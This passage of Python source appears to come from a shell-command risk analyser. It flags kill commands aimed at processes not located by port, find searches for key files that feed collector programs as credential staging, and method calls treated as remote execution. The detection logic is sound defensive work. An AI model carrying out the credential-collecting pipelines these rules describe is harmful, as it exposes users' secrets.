        feeders = [other for other in reading.runs if other.name == hander and other.stdin is not None]
        by_port = feeders and all(
            other.stdin is not None and other.stdin.programs == ("lsof",) and _of_port(reading) for other in feeders
        )
        if not by_port:
            yield Effect("kill-found", " ".join(run.argv[:4]).replace(UNKNOWN, "?"), "", frozenset(), run)
            return


_LISTS_ALL = (("ps",), ("ps", "awk"), ("ps", "tail"), ("ps", "cut"))
"""Processes that nothing was chosen from."""


def _of_port(reading: Reading) -> bool:
    return all(any(_PORT.match(word) for word in run.argv[1:]) for run in reading.runs if run.name == "lsof")


_PORT = lazy_re.compile(r"(?:-[tiTnPQ]{0,4})?i?(?:tcp|udp|TCP|UDP)?:[0-9]{1,5}\Z")


# --- keys collected ---------------------------------------------------------------------------------------------------


def _stages(reading: Reading) -> Iterator[Effect]:
    for run in reading.runs:
        if run.name == "find" and any(_KEYS.search(word) for word in run.argv[1:24] if len(word) < MAX_SHOWN):
            for other in reading.runs:
                if other.name in _COLLECTORS and ("find" in other.via or (other.via[-1:] in (("xargs",), ("parallel",)))):
                    yield Effect("stage", " ".join(run.argv[1:8]), "credentials", frozenset(), other)
                    break


# --- method calls in place of programs --------------------------------------------------------------------------------


def _method_calls(reading: Reading) -> Iterator[Effect]:
    for run in reading.runs[:8]:
        head = run.argv[0]
        if (
            ("." in head or "::" in head)
            and "/" not in head
            and ("broken" in reading.flaws or "(" in " ".join(run.argv[:6]))
        ):
            yield from (
                Effect("method", text[:MAX_SHOWN], "remote", frozenset({"bare"}), run) for text in methods(f"{head}('")
            )
